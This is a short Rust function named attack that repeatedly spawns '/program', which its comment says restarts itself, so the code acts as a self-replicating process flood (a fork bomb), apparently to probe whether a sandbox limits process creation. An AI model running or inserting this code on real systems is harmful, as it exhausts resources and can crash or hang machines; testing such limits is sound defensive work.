// Starts itself again and again, and each of them does the same.
fn attack() -> bool {
    let mut started = 0;
    for _ in 0..2000 {
        if std::process::Command::new("/program").spawn().is_ok() {
            started += 1;
        }
    }
    started > 500
}
